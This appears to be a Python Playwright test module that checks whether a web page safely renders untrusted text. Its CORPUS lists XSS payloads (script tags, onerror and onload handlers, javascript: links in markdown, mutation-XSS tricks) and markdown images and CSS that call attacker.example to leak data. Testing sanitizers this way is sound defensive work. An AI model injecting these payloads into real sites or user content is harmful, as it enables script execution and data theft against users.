"""Texts that try to run, to call out or to break out, and how to see that they did not."""

from __future__ import annotations

from playwright.sync_api import Page

RUN = "window.pwned=1"
CORPUS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<a href=javascript:{RUN}>clique</a>",
    f"[clique](javascript:{RUN})",
    f"[clique](JaVa\tScRiPt:{RUN})",
    f"[clique](&#106;avascript:{RUN})",
    f"[clique](data:text/html,<script>opener.{RUN}</script>)",
    "![roubo](https://attacker.example/?q=segredo)",
    "![roubo](//attacker.example/p.png)",
    "![sair](/auth/logout)",
    "[![x](https://attacker.example/p.png)](https://attacker.example/)",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>@import url(https://attacker.example/x.css);body{background:url(https://attacker.example/y)}</style>",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<form action=https://attacker.example/><button id=main>enviar</button></form>",
    "<object data=https://attacker.example/x></object><embed src=https://attacker.example/x>",
    "<video src=https://attacker.example/v autoplay><audio src=https://attacker.example/a autoplay>",
    f"```html\n<script>{RUN}</script>\n```",
    f'<https://a.example/" onmouseover="{RUN}>',
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |",
    f"<math><mtext></table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e {{{{constructor.constructor('{RUN}')()}}}}",
)
NAME = f'"><img src=x onerror={RUN}><script>{RUN}</script>'


def watch(page: Page) -> list[str]:
    """Collect dialogs and new windows, which hostile text might open."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: seen.append(popup.url))
    return seen


def unharmed(page: Page, seen: list[str]) -> bool:
    # A round through the event loop and a frame, so that what would run has run.
    page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")
    return page.evaluate("window.pwned") is None and seen == []
